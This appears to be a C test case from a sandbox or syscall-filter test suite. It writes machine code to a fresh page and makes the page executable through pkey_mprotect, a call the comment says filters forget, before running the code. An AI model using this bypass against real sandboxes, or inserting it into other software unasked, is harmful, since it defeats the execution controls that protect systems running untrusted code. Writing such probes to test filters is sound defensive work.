/* The same by the call that also sets a protection key, and that filters forget. */
#include "../attack.h"
#include "../machine_code.h"

static void attack(void) {
    void* page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(page, code_, sizeof code_);
    if (syscall(SYS_pkey_mprotect, page, 4096, PROT_READ | PROT_EXEC, -1) == 0)
        loot_result_of(page);
}
